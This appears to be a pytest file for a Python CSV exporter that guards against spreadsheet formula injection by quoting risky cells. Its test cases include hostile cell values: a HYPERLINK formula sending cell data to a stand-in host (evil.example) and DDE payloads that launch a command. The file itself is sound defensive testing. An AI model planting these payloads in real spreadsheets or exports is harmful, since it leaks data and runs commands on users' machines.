"""core.csvexport, the one CSV writer: no cell a spreadsheet reads as a formula (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from regietafel.core.csvexport import csv_antwoord, csv_tekst, neutraliseer


@pytest.mark.parametrize(
    ("tekst", "verwacht"),
    [
        ('=HYPERLINK("http://evil.example/?d="&A2,"klik")', "'=HYPERLINK("),
        ("=cmd|' /C calc'!A0", "'=cmd"),
        ("+1+cmd|' /C calc'!A0", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("  =1+2", "'  =1+2"),
        ("-", "'-"),
    ],
)
def test_text_that_reads_as_a_formula_gets_a_quote(tekst: str, verwacht: str) -> None:
    assert neutraliseer(tekst).startswith(verwacht)
    assert neutraliseer(tekst) == "'" + tekst


@pytest.mark.parametrize("tekst", ["-5", "-1.000", "+3", "81,24", "Assen", "a=b", "", "3-2"])
def test_numbers_and_plain_text_stay_as_they_are(tekst: str) -> None:
    assert neutraliseer(tekst) == tekst


def test_a_csv_with_hostile_cells_and_negative_numbers() -> None:
    tekst = csv_tekst(
        ["Naam", "Verschil"],
        [["=1+2", -5], ["-2+3", "-1.000"], ["Assen; Emmen", None], [True, 0]],
    )
    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert rijen == [
        ["Naam", "Verschil"],
        ["'=1+2", "-5"],
        ["'-2+3", "-1.000"],
        ["Assen; Emmen", ""],
        ["ja", "0"],
    ]


def test_csv_antwoord_is_a_download_with_a_bom() -> None:
    antwoord = csv_antwoord(["Kop"], [["@x"]], bestandsnaam="lijst.csv")
    assert antwoord["Content-Type"] == "text/csv; charset=utf-8"
    assert antwoord["Content-Disposition"] == 'attachment; filename="lijst.csv"'
    assert antwoord.content.decode("utf-8").startswith("\ufeffKop\r\n'@x\r\n")


@pytest.mark.parametrize("einde", ["\r", "\n", "\r\n"])
def test_a_line_break_in_a_cell_does_not_start_a_row(einde: str) -> None:
    """A line break inside a cell is quoted: it cannot end the row and start a new one with a
    formula (csv quotes only the characters of its own line terminator)."""
    tekst = csv_tekst(["Wijzigingen"], [[f"veld: oud{einde}=1+2"], [f"{einde}=1+2"]])
    rijen = list(csv.reader(io.StringIO(tekst, newline=""), delimiter=";"))
    assert rijen == [["Wijzigingen"], [f"veld: oud{einde}=1+2"], [f"'{einde}=1+2"]]
    assert tekst.count("\r\n") == 3 + (einde == "\r\n") * 2
